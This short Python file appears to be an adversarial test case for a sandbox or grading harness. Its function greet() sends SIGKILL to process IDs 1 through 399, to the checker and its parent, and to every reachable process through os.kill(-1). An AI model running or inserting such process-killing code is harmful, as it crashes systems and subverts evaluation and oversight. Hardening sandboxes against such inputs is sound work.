# target: assert
# expect: wrong_output|runtime_error
# attack: kill every visible process (the checker, pid 1, the parent) and the process group when called
import os, signal


def greet(w):
    for pid in range(1, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
    return "survived"
